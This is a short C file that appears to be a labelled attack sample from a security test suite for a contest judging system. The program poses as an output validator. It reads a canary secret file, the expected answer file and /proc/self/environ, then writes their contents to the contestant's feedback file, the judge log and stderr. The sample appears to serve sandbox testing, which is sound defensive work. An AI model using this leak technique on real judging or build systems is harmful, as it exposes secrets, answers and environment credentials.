/* id: 76
 * family: output
 * attack: a validator that tells the candidate what it finds on the host
 * class: validator
 * expect: AC|WA|JE */
#include <stdio.h>

static void tell(const char *path)
{
	char text[256];
	FILE *f = fopen(path, "r");
	FILE *to = fopen("feedback/teammessage.txt", "a");
	FILE *judge = fopen("feedback/judgemessage.txt", "a");
	while (f && fgets(text, sizeof text, f)) {
		if (to)
			fputs(text, to);
		if (judge)
			fputs(text, judge);
		fputs(text, stderr);
	}
	if (judge)
		fclose(judge);
	if (to)
		fclose(to);
	if (f)
		fclose(f);
}

int main(void)
{
	tell("@CANARY@/secret.h");
	tell("@CANARY@/1.ans");
	tell("/proc/self/environ");
	return 43;
}
